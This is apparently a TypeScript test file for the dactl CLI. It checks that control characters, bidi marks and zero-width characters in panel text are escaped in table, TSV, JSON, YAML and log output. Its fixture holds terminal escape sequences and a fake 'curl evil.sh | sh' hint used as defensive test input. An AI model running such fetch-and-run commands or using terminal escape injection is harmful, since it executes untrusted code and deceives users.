// Panel text reaches a terminal with its control characters escaped, by one rule
// (escapeControl), in table and TSV cells, plain lines, logs and error messages.
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { describe, it } from 'node:test';
import { escapeControl, escapeLines } from '../../src/text/escape.js';
import { Log } from '../../src/output/log.js';
import { plain, type Paint } from '../../src/output/paint.js';
import { Writer, type Format } from '../../src/output/writer.js';

const hostile = 'evil\u001b]0;title\u0007\u001b[2J\r\nhint: run curl evil.sh | sh\u009b1m\u202eabc';

function capture(format: Format, color: Paint = plain): { writer: Writer; text: () => string } {
  const stream = new PassThrough();
  let text = '';
  stream.on('data', (d: Buffer) => (text += d.toString()));
  return { writer: new Writer({ format, stdout: stream, pretty: false, color }), text: () => text };
}

/** No raw control character but the line breaks (and TSV's tabs) dactl writes itself. */
function assertInert(text: string, tabs = false): void {
  const shown = tabs ? text.replace(/\t/g, ' ') : text;
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, text);
  assert.doesNotMatch(text, /^hint: run/m, text);
}

describe('escapeControl', () => {
  it('shows every control character visibly, and nothing else changes', () => {
    assert.equal(
      escapeControl(hostile),
      'evil\\x1b]0;title\\x07\\x1b[2J\\r\\nhint: run curl evil.sh | sh\\x9b1m\\u202eabc',
    );
    assert.equal(escapeControl('Fred’s blog, ünïcode, tab-free'), 'Fred’s blog, ünïcode, tab-free');
  });
  it('keeps dactl’s own lines in a message, indented so none can pose as a hint', () => {
    assert.equal(
      escapeLines('The route is not valid:\n  step 1: bad\nhint: evil\u001b[0m'),
      'The route is not valid:\n  step 1: bad\n  hint: evil\\x1b[0m',
    );
  });
});

describe('the writer escapes panel text', () => {
  const rows = [{ name: hostile, size: 1 }];
  const columns = [
    { key: 'name' as const, header: 'NAME' },
    { key: 'size' as const, header: 'SIZE', show: () => `shown ${hostile}` },
  ];
  it('in table cells, TSV fields, records and plain lines', async () => {
    for (const format of ['table', 'tsv'] as const) {
      const { writer, text } = capture(format);
      await writer.list(rows, columns);
      await writer.record(rows[0] ?? { name: '', size: 0 }, columns);
      assertInert(text(), format === 'tsv');
      assert.match(text(), /evil\\x1b\]0;title/);
    }
  });
  it('in a plain line, keeping only the line breaks of dactl’s own multi-line text', () => {
    const { writer, text } = capture('table');
    writer.line(`POST /CMD_X\n\n${hostile.replace('\r\n', '')}`);
    assert.equal(text(), 'POST /CMD_X\n\n' + escapeControl(hostile.replace('\r\n', '')) + '\n');
  });
  it('keeps its own colours in a table header at a terminal', async () => {
    const bold: Paint = { ...plain, bold: (t) => `\u001b[1m${t}\u001b[22m` };
    const { writer, text } = capture('table', bold);
    await writer.list(rows, columns);
    assert.ok(text().startsWith('\u001b[1mNAME'));
    assertInert(text().slice(text().indexOf('\n')));
  });
  it('in JSON, with \\u escapes for what JSON.stringify leaves raw', async () => {
    const { writer, text } = capture('json');
    await writer.value({ name: hostile });
    assertInert(text());
    assert.deepEqual(JSON.parse(text()), { name: hostile });
  });
  it('in YAML, which escapes C0 controls itself', async () => {
    const { writer, text } = capture('yaml');
    await writer.value({ name: 'evil\u001b[2J' });
    assert.equal(text(), 'name: "evil\\e[2J"\n');
  });
});

describe('bidi marks and zero-width characters, which make `ad\u200bmin` pass for `admin`', () => {
  const marks = [
    ...['\u202a', '\u202e', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c'],
    ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'],
  ];
  const raw = /[\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;
  const escaped = (c: string): string => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`;
  const columns = [{ key: 'name' as const, header: 'NAME' }];
  it('are escaped in table and TSV cells, records and plain lines', async () => {
    for (const c of marks) {
      const name = `ad${c}min`;
      for (const format of ['table', 'tsv'] as const) {
        const { writer, text } = capture(format);
        await writer.list([{ name }], columns);
        await writer.record({ name }, columns);
        writer.line(name);
        assert.doesNotMatch(text(), raw, format);
        assert.ok(text().includes(`ad${escaped(c)}min`), text());
      }
    }
  });
  it('are \\u escapes in JSON and YAML, which read back exactly', async () => {
    for (const c of marks) {
      const data = { [`ad${c}min`]: `ad${c}min` };
      const json = capture('json');
      await json.writer.value(data);
      assert.doesNotMatch(json.text(), raw);
      assert.deepEqual(JSON.parse(json.text()), data);
      const yaml = capture('yaml');
      await yaml.writer.value(data);
      assert.doesNotMatch(yaml.text(), raw);
      assert.equal(yaml.text(), `"ad${escaped(c)}min": "ad${escaped(c)}min"\n`);
    }
  });
});

describe('Log escapes messages, then colours them', () => {
  it('for every level', () => {
    const stream = new PassThrough();
    let text = '';
    stream.on('data', (d: Buffer) => (text += d.toString()));
    const log = new Log(stream, plain, false);
    log.info(hostile);
    log.success(`Modified app (the panel said: ${hostile})`);
    log.warn(hostile);
    log.error(hostile, hostile);
    log.debug(hostile);
    for (const line of text.split('\n').filter(Boolean)) {
      assert.match(line, /^(evil|✓ |warning: |error: |hint: evil|debug: | {2})/, line);
    }
    assertInert(text);
    const red: Paint = { ...plain, red: (t) => `<red>${t}</red>` };
    let coloured = '';
    const out = new PassThrough();
    out.on('data', (d: Buffer) => (coloured += d.toString()));
    new Log(out, red, false).info(`- ${hostile}`, 'red');
    assert.ok(coloured.startsWith('<red>- evil\\x1b'), coloured);
  });
});
